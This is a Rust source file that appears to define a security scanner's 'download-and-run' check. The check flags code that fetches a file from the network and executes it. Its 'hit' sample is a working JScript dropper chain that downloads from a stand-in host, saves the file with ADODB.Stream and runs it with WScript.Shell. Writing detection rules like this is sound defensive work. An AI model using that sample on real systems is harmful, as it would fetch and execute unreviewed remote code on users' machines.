//! A program that runs what it downloads.

use crate::check::{Check, Context, threats};
use crate::meaning::fetched::runs;
use crate::rule::Match;
use crate::value::severity::Severity;
use crate::value::verdict::Action;

/// The check.
pub const CHECK: Check = Check {
    id: "download-and-run",
    category: "remote-code",
    severity: Severity::High,
    action: Action::Confirm,
    why: "What is downloaded when the program runs can be anything, and nobody has looked at it.",
    help: "Ship what is to run with the program, or check it against a known sum first.",
    hit: "var http = new ActiveXObject('MSXML2.XMLHTTP'); http.open('GET', 'http://in.example.net/a', false); http.send();\nvar file = new ActiveXObject('ADODB.Stream'); file.Open(); file.Write(http.ResponseBody); file.SaveToFile(path);\nnew ActiveXObject('WScript.Shell').Run(path);",
    miss: "var http = new ActiveXObject('MSXML2.XMLHTTP'); http.open('GET', 'http://example.com/a', false); http.send();\nshow(http.responseText);",
    run,
};

fn run(context: &Context<'_>) -> Vec<Match> {
    let mut found = threats(context);
    let ends = &context.features.ends;
    found.extend(runs(context.subject, ends, context.house).into_iter().filter_map(|run| {
        let reach = ends.reaches.get(run.reach)?;
        // What is compared with a sum that is written out is what whoever wrote it looked at, if anybody did.
        let severity = if run.is_published || context.subject.checks_sum { Severity::High } else { Severity::Critical };
        Some(context.harm(reach.span, severity).with_message(format!("`{}` runs what was fetched: `{}`", reach.name, shown(&run.path))))
    }));
    found
}

fn shown(path: &str) -> String {
    path.chars().take(80).map(|character| if character.is_control() { '…' } else { character }).collect()
}
